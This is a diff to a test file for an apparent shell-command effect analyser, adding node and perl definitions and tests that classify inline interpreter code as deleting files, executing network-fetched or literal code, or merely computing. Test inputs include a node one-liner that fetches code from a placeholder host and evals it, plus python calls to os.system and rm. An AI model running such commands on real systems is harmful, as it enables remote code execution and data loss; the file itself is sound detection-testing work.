@@ -5,6 +5,8 @@ const PROGRAM = programOf(`
   command rm { flags { -r -f } operands { paths: path* } delete paths with recursive = -r }
   command sed { flags { -n -e=word } operands { program: word files: path* } copy files to stdout execute program as sed }
   command awk { flags { -F=word } operands { program: word files: path* } copy files to stdout execute program as awk }
+  command node { flags { -e=word! } operands { args: rest? } execute -e as javascript }
+  command perl { flags { -e=word! } operands { args: rest? } execute -e as perl }
   command python { flags { -c=word! } operands { args: rest? } execute -c as python }
 `);
 
@@ -20,6 +22,22 @@ describe("code of another language that starts programs", () => {
     ["python -c 'import os; os.system(\"id\")'", "python"],
     ["python -c 'eval(\"1\")'", "python"],
   ])("%s executes", (command, language) => expect(effects(command)).toContain(`execute source=literal language=${language}`));
+
+  it.each([
+    ['python -c \'import subprocess; subprocess.call(["rm", "x"])\'', "delete /work/app/x"],
+    ["node -e 'fetch(\"http://h\").then((r) => r.text()).then(eval)'", "execute source=network language=javascript"],
+    ["python -c 'import ctypes; ctypes.CDLL(\"x\")'", "execute source=literal language=python"],
+    ["python -c '().__class__'", "execute source=literal language=python"],
+    ["node -e 'require(\"./x\")'", "execute source=literal language=javascript"],
+    ["perl -e 'require Foo; print 1'", "execute source=literal language=perl"],
+  ])("%s has the effect %s", (command, line) => expect(effects(command)).toContain(line));
+
+  it.each([
+    "python -c 'import json, sys; print(json.load(sys.stdin)[0])'",
+    "python -c 'from datetime import date; print(date.today())'",
+    "node -e 'console.log(require(\"./package.json\").version, process.version)'",
+    "perl -e 'print uc($x), \"a\\n\"'",
+  ])("%s computes only", (command) => expect(effects(command)).toEqual([]));
 
   it.each(["sed -n 1,3p f", "awk '{print $1}' f", "python -c 'print(1)'"])("%s executes nothing else", (command) =>
     expect(effects(command).filter((line) => line.startsWith("execute"))).toEqual([]),
